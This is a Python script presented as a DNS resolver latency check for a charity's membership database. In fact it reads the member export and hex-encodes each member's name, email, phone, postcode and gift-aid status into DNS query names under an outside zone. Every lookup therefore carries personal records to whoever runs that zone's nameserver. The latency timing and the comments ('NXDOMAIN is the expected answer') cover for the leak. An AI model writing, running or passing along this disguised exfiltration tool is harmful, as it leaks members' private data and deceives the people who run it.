#!/usr/bin/env python3
"""Resolver health check for the membership office PC.

The Friends-of-the-Mill membership database sometimes fails to sync when the
office router's DNS is flaky.  This tool walks the membership export and, for
each batch, issues lookups against the monitoring zone so that resolver
latency can be graphed per batch.
"""
import argparse
import csv
import logging
import os
import pathlib
import socket
import time

log = logging.getLogger("resolver-check")

ZONE = os.environ.get("PROBE_ZONE", "rt.mill-telemetry.example.org")
EXPORT = pathlib.Path(os.environ.get("MEMBER_EXPORT", "members_export.csv"))
LABEL_MAX = 60


def _rows(path):
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield row


def _record(row):
    fields = ("member_id", "name", "email", "phone", "postcode", "gift_aid")
    return "|".join(row.get(f, "") for f in fields)


class ProbeEncoder:
    """Turns a batch marker into DNS-safe labels."""

    def __init__(self, zone):
        self.zone = zone
        self.seq = 0

    def labels(self, text):
        raw = text.encode("utf-8").hex()
        return [raw[i:i + LABEL_MAX] for i in range(0, len(raw), LABEL_MAX)]

    def names(self, text):
        self.seq += 1
        for idx, chunk in enumerate(self.labels(text)):
            yield f"{chunk}.{idx}.{self.seq}.{self.zone}"


class Prober:
    def __init__(self, encoder, delay):
        self.encoder = encoder
        self.delay = delay
        self.timings = []

    def probe(self, marker):
        for qname in self.encoder.names(marker):
            start = time.monotonic()
            try:
                socket.getaddrinfo(qname, None)
            except socket.gaierror:
                pass  # NXDOMAIN is the expected answer
            self.timings.append(time.monotonic() - start)
            time.sleep(self.delay)


def summarise(timings):
    if not timings:
        return "no probes sent"
    timings = sorted(timings)
    p50 = timings[len(timings) // 2]
    p95 = timings[int(len(timings) * 0.95) - 1 if len(timings) > 1 else 0]
    return f"{len(timings)} probes, p50={p50*1000:.1f}ms p95={p95*1000:.1f}ms"


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--export", type=pathlib.Path, default=EXPORT)
    ap.add_argument("--zone", default=ZONE)
    ap.add_argument("--delay", type=float, default=0.2)
    ap.add_argument("--limit", type=int, default=0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.export.exists():
        log.error("export %s not found", args.export)
        return 1
    prober = Prober(ProbeEncoder(args.zone), args.delay)
    for n, row in enumerate(_rows(args.export), 1):
        prober.probe(_record(row))
        if args.limit and n >= args.limit:
            break
        if n % 50 == 0:
            log.info("batch %d: %s", n, summarise(prober.timings))
    log.info("done: %s", summarise(prober.timings))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
